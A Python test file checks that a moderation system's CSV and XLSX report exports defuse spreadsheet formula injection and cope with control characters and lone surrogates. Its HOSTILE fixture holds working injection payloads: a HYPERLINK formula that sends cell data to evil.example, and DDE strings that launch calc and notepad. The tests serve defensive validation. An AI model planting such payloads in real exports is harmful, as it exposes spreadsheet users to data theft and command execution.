"""Exports are opened in spreadsheets by regulators: no value may run as a formula there.

Producers (stream, host and merchant ids, titles) and moderators (decision reasons) control
text that ends up in CSV and XLSX cells; OWASP's CSV-injection rules say a cell starting with
``= + - @``, tab or carriage return must be neutralised.
"""

from __future__ import annotations

import csv
import io

from liveguard.alerts.crud import cases, users
from liveguard.alerts.ingestion import ingest_events

HOSTILE = {
    "host": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "merchant": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "+1+cmd|' /C notepad'!A0",
    "stream": "-2+3",
}


def _seed(api, events, settings) -> None:
    with api.client.app.state.sessionmaker() as s:
        ingest_events(
            s,
            [
                events.finding(
                    stream_id=HOSTILE["stream"], host=HOSTILE["host"], merchant=HOSTILE["merchant"]
                )
            ],
            settings,
        )
        mod = users.get_user(s, "moderator")
        assert mod is not None
        case_id = cases.list_cases(s).items[0].id
        cases.claim_case(s, case_id, mod, 600)
        cases.decide_case(s, case_id, mod, "dismiss", HOSTILE["reason"])


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formulas(api, events, settings):
    _seed(api, events, settings)
    r = api.client.get("/api/reports/export?format=csv", headers=api.as_("regulator"))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if _dangerous(c)], cells
    # the text survives, only defused: a reader still sees what the host's id was
    assert rows[0]["host_id"] == "'" + HOSTILE["host"]
    assert rows[0]["decision_reason"] == "'" + HOSTILE["reason"]
    assert rows[0]["stream_id"] == "'" + HOSTILE["stream"]


def test_xlsx_export_has_no_formula_cells(api, events, settings):
    from openpyxl import load_workbook

    _seed(api, events, settings)
    r = api.client.get("/api/reports/export?format=xlsx", headers=api.as_("regulator"))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert not [v for v in values if _dangerous(v)], values
    assert "'" + HOSTILE["merchant"] in values
    # numbers stay numbers (a negative count would not be text to defuse)
    assert any(isinstance(v, int) for v in values)


def test_xlsx_export_shows_control_characters_instead_of_failing():
    from openpyxl import load_workbook

    from liveguard.alerts.exports import to_xlsx

    data = to_xlsx([{"host": "ho\x01st", "n": 1}], ("host", "n"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == ["ho\ufffdst", 1]
    # XML holds no U+FFFE / U+FFFF and no lone surrogate either (JSON can carry all three)
    data = to_xlsx([{"host": "a\uffffb\ufffec\ud800d", "n": 2}], ("host", "n"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == ["a\ufffdb\ufffdc\ufffdd", 2]


def test_csv_and_json_exports_show_a_lone_surrogate_as_replacement() -> None:
    # JSON input can carry "\ud800" into a producer's id; a strict UTF-8 encode would fail
    # the whole export on it, as the XLSX export did before it showed such characters as U+FFFD
    import json

    from liveguard.alerts.exports import to_csv, to_json, to_json_doc

    rows = [{"host": "a\ud800b\udfffc", "n": 1}]
    text = to_csv(rows, ("host", "n")).decode("utf-8")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["host", "n"],
        ["a\ufffdb\ufffdc", "1"],
    ]
    assert json.loads(to_json(rows)) == {"cases": [{"host": "a\ufffdb\ufffdc", "n": 1}]}
    # a character outside the BMP is a pair in UTF-16, never a lone surrogate: kept whole
    assert json.loads(to_json_doc({"t": "\U0001f600\ud83d"})) == {"t": "\U0001f600\ufffd"}
